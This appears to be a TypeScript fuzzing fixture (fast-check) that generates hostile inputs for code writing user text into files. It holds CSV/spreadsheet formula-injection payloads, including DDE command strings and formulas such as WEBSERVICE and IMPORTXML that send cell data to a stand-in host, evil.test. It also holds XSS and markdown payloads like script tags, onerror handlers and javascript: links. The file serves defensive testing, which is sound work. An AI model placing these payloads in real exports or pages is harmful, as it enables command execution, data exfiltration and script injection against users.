/** Hostile texts for whatever writes what people typed into a file: formulae, and markup. */

import fc from "fast-check";

const FORMULAE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test?x="&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.test?x=",A1),"//a")',
  '=WEBSERVICE("https://evil.test/"&A2)',
  '=DDE("cmd";"/C calc";"x")',
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  "\ufe661+1",
  "\u22121+1",
];

/** What stands before a formula so that a guard may miss it. */
const HIDINGS = [
  "",
  " ",
  "   ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\u0000",
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\u3000",
  "\u2060\t ",
  '"',
  '"",',
  "a;",
  'a";"',
  "a; \u0000",
  "words\n",
  "words\r",
  'words"\r\n"',
];

/** 315 of them, each a formula for some spreadsheet in some language. */
export const FORMULA_PAYLOADS: readonly string[] = HIDINGS.flatMap((hiding) =>
  FORMULAE.map((formula) => hiding + formula),
);

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "</p></blockquote></li><h1>x",
  "<!-- ",
  "<![CDATA[x",
  "<?php x ?>",
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "![x](https://evil.test/pixel.png)",
  "[x][y]\n\n[y]: https://evil.test",
  "[^1]\n\n[^1]: note",
  "<javascript:alert(1)>",
  "https://evil.test/x",
  "www.evil.test",
  "mail@evil.test",
  "evil.com/x and main.py",
  "//evil.com/x",
  "mailto:mail@evil.com",
  "@somebody and #12",
  "**bold** __bold__ *i* _i_ ~~s~~ `c` ``c",
  "```html\n<script>alert(1)</script>",
  "# heading",
  "heading\n===",
  "heading\n---",
  "- item\n1. item\n+ item\n* item",
  "> quote",
  "    code",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "a\n:-",
  "a\n|-",
  "a | b\n-|-",
  "a\n-:",
  "- [x] done",
  "[!NOTE]",
  "$x$ and $$y$$",
  "{alert(1)} {{ site.x }} {% raw %}",
  "%% gone",
  "/close",
  "&lt;b&gt; &#60;b&#62; &copy;",
  "\\",
  "a\\\nb",
  "text  \nnext",
];

const PLACES = ["", "words ", "\n", "\n\n", "\\", "]", "`"];

/** 308 of them, each markup, a link or a command in some dialect. */
export const MARKUP_PAYLOADS: readonly string[] = PLACES.flatMap((place) =>
  MARKUP.map((markup) => place + markup),
);

/** Any text at all, hostile ones often among it, of a length that evidence may have. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    fc.constantFrom(...FORMULA_PAYLOADS, ...MARKUP_PAYLOADS),
    fc.string({ unit: "binary", minLength: 1, maxLength: 80 }),
    fc.array(fc.integer({ min: 0, max: 0xffff }), { minLength: 1, maxLength: 30 }).map(
      // Half characters too, which a file may hold and strings of fast-check do not.
      (units) => String.fromCharCode(...units),
    ),
    fc
      .array(fc.constantFrom(...FORMULA_PAYLOADS, ...MARKUP_PAYLOADS, "words", " ", "\n"), {
        minLength: 2,
        maxLength: 4,
      })
      .map((parts) => parts.join("").slice(0, 600)),
  )
  .filter((text) => text.length > 0);
